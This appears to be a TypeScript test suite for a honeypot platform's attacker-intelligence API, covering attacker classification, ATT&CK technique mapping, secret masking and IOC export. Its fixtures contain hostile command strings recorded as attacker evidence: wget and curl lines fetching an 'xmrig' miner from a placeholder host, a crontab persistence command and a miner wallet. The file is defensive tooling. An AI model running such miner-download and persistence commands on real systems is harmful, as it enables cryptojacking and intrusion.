// attackers.intel, intel.techniques / navigatorLayer / iocs and exports.iocs over the real API runtime
// and database. The events are ingested through a second handle on the same SQLite file whose
// analyser hands back the findings each event carries, so these tests hold whatever the rule sets
// say (core/intel tests the rules; packages/db/test/intel.test.ts runs ingest through them end to end).
import type http from 'node:http'
import type { AddressInfo } from 'node:net'
import type { EventFindings } from '@decnet/core'
import { createDatabase, defaultDatabaseUrl, type IntelAnalyser, type LogEventInput } from '@decnet/db'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createApiServer, listen } from '../src/server.ts'
import { codeOf } from './support/accounts.ts'
import { inProcessApiOfSuite, NO_WORKERS } from './support/in-process.ts'

const T = (minute: number) => new Date(Date.UTC(2026, 10, 25, 10, minute))
const none = (): EventFindings => ({ fingerprints: [], tools: [], techniques: [], iocs: [], behaviour: {} })

const carried: IntelAnalyser = {
  analyseEvent: (event) => (event.fields.findings as EventFindings | undefined) ?? none(),
  classifyAttacker: (summary) =>
    (summary.behaviour.authFailures ?? 0) >= 2
      ? { class: 'brute_forcer', evidence: [`${summary.behaviour.authFailures} failed logins`] }
      : { class: 'unknown', evidence: [] },
  versions: { tools: 't1', techniques: 'k1', iocs: 'i1', classification: 'c1' },
}

function event(attackerIp: string, minute: number, findings: Partial<EventFindings>): LogEventInput {
  return {
    timestamp: T(minute),
    decky: 'web-01',
    service: 'ssh',
    eventType: 'command',
    attackerIp,
    attackerPort: 50000,
    rawLine: 'event',
    fields: { findings: { ...none(), ...findings } },
  }
}

const SECRET_URL = 'http://bob:hunter2-secret@203.0.113.5/xmrig'

describe('attacker intelligence API', () => {
  const api = inProcessApiOfSuite({ env: NO_WORKERS, viewer: 'viewer1' })
  let server: http.Server
  let base: string
  let brute: string

  beforeAll(async () => {
    server = createApiServer(api.services)
    base = `http://127.0.0.1:${((await listen(server, 0, '127.0.0.1')) as AddressInfo).port}`
    const writer = createDatabase(defaultDatabaseUrl(api.dataDir), { intel: carried })
    try {
      await writer.logs.ingest([
        event('198.51.100.7', 1, {
          behaviour: { authAttempts: 1, authFailures: 1 },
          fingerprints: [
            { kind: 'hassh', value: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1', detail: 'kex;enc;mac;cmp' },
          ],
          tools: [{ tool: 'hydra', ruleId: 'tool.hydra.libssh', evidence: 'SSH-2.0-libssh_0.9.6' }],
        }),
        event('198.51.100.7', 2, {
          behaviour: { authAttempts: 1, authFailures: 1 },
          techniques: [
            { technique: 'T1105', ruleId: 'attack.wget', evidence: `wget ${SECRET_URL}` },
            { technique: 'T1053.003', ruleId: 'attack.crontab', evidence: 'crontab -' },
          ],
          iocs: [
            { kind: 'url', value: SECRET_URL, source: 'command' },
            { kind: 'sha256', value: 'b'.repeat(64), source: 'download' },
          ],
        }),
        event('192.0.2.44', 3, {
          techniques: [
            { technique: 'T1105', ruleId: 'attack.curl', evidence: 'curl -O http://203.0.113.5/xmrig' },
            { technique: 'T9999', ruleId: 'attack.future', evidence: 'a rule newer than the catalogue' },
            { technique: 'recon', ruleId: 'attack.odd', evidence: 'an id the Navigator cannot place' },
          ],
          iocs: [
            { kind: 'sha256', value: 'b'.repeat(64), source: 'download' },
            { kind: 'wallet', value: '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx', source: 'command' },
          ],
        }),
      ])
    } finally {
      await writer.close()
    }
    const { rows } = await api.admin.attackers.list({ q: '198.51.100.7' })
    brute = rows[0]?.id as string
  })
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())))

  it('attackers.intel: class with evidence, behaviour, fingerprints, tools, techniques, indicators', async () => {
    const intel = await api.admin.attackers.intel({ id: brute })
    expect(intel).toMatchObject({
      ip: '198.51.100.7',
      classification: { class: 'brute_forcer', evidence: ['2 failed logins'] },
      behaviour: { authAttempts: 2, authFailures: 2 },
      fingerprintTotal: 1,
      iocTotal: 2,
    })
    expect(intel.fingerprints[0]).toMatchObject({ kind: 'hassh', value: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1' })
    expect(intel.tools).toEqual([
      expect.objectContaining({ tool: 'hydra', ruleId: 'tool.hydra.libssh', ruleVersion: 't1', count: 1 }),
    ])
    expect(intel.techniques.map((t) => t.technique)).toEqual(['T1053.003', 'T1105'])
    expect(intel.techniques[1]?.evidence).toContain('hunter2-secret')
    expect(intel.iocs.map((i) => i.value)).toContain(SECRET_URL)
    expect(await codeOf(api.viewer.attackers.intel({ id: 'no-such-attacker' }))).toBe('NOT_FOUND')
  })

  it('masks captured secrets in evidence and indicators for viewers', async () => {
    const intel = await api.viewer.attackers.intel({ id: brute })
    const text = JSON.stringify(intel)
    expect(text).not.toContain('hunter2-secret')
    expect(intel.iocs.find((i) => i.kind === 'url')?.value).toBe('http://bob:••••••••@203.0.113.5/xmrig')
    const iocs = await api.viewer.intel.iocs({ kind: 'url' })
    expect(JSON.stringify(iocs)).not.toContain('hunter2-secret')
    expect(JSON.stringify(await api.admin.intel.iocs({ kind: 'url' }))).toContain('hunter2-secret')
  })

  it('intel.techniques: fleet-wide attackers and sightings per technique, named when the catalogue knows it', async () => {
    const { rows } = await api.viewer.intel.techniques()
    const t1105 = rows.find((row) => row.technique === 'T1105')
    expect(t1105).toMatchObject({ attackers: 2, hits: 2 })
    expect(t1105?.topAttackers.map((a) => a.ip).sort()).toEqual(['192.0.2.44', '198.51.100.7'])
    expect(rows[0]?.technique).toBe('T1105')
    expect(t1105).toMatchObject({ name: 'Ingress Tool Transfer', tactics: ['command-and-control'] })
    expect(rows.find((row) => row.technique === 'T9999')).toMatchObject({ name: null, tactics: [] })
  })

  it('intel.navigatorLayer: a 4.5 layer scored by attackers (fleet) or sightings (one attacker)', async () => {
    const fleet = await api.viewer.intel.navigatorLayer({})
    expect(fleet.versions.layer).toBe('4.5')
    expect(fleet.domain).toBe('enterprise-attack')
    expect(fleet.techniques.map((t) => [t.techniqueID, t.score]).sort()).toEqual([
      ['T1053.003', 1],
      ['T1105', 2],
      ['T9999', 1],
    ])
    // 'recon' is listed among the techniques but left out of the layer (not an ATT&CK id).
    expect((await api.viewer.intel.techniques()).rows.map((row) => row.technique)).toContain('recon')
    expect(fleet.gradient.maxValue).toBe(2)
    const one = await api.viewer.intel.navigatorLayer({ attackerId: brute })
    expect(one.name).toContain('198.51.100.7')
    expect(one.techniques.map((t) => t.techniqueID).sort()).toEqual(['T1053.003', 'T1105'])
    expect(one.techniques.find((t) => t.techniqueID === 'T1105')?.comment).toBe(
      'Ingress Tool Transfer: 1 sighting(s)',
    )
    expect(await codeOf(api.viewer.intel.navigatorLayer({ attackerId: 'missing' }))).toBe('NOT_FOUND')
  })

  it('intel.iocs: deduplicated across attackers, filtered by kind and value, paged', async () => {
    const all = await api.viewer.intel.iocs({ limit: 1 })
    expect(all.total).toBe(3)
    expect(all.rows[0]).toMatchObject({ kind: 'sha256', value: 'b'.repeat(64), attackers: 2, hits: 2 })
    const next = await api.viewer.intel.iocs({ limit: 5, cursor: all.nextCursor })
    expect(next.rows).toHaveLength(2)
    expect((await api.viewer.intel.iocs({ kind: 'wallet' })).rows.map((r) => r.value)).toEqual([
      '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx',
    ])
    expect((await api.viewer.intel.iocs({ q: '203.0.113.5' })).total).toBe(1)
    expect(await codeOf(api.viewer.intel.iocs({ kind: 'nonsense' } as never))).toBe('BAD_REQUEST')
    expect(await codeOf(api.viewer.intel.iocs({ limit: 10_000 }))).toBe('BAD_REQUEST')
  })

  it('exports.iocs streams the indicators as CSV and NDJSON, masked for viewers', async () => {
    const download = async (url: string) => (await fetch(`${base}${url}`)).text()
    const ticket = await api.viewer.exports.iocs({ format: 'csv' })
    expect(ticket.filename).toMatch(/^decnet-iocs-\d{8}T\d{6}Z\.csv$/)
    const rows: Record<string, string>[] = parse(await download(ticket.url), { columns: true })
    expect(rows.map((r) => r.kind)).toEqual(['sha256', 'url', 'wallet'])
    expect(rows.find((r) => r.kind === 'sha256')).toMatchObject({ attackers: '2', hits: '2' })
    expect(JSON.stringify(rows)).not.toContain('hunter2-secret')
    const admin = await download((await api.admin.exports.iocs({ format: 'ndjson', kind: 'url' })).url)
    const lines = admin
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(lines).toEqual([expect.objectContaining({ kind: 'url', value: SECRET_URL, attackers: 1 })])
  })
})
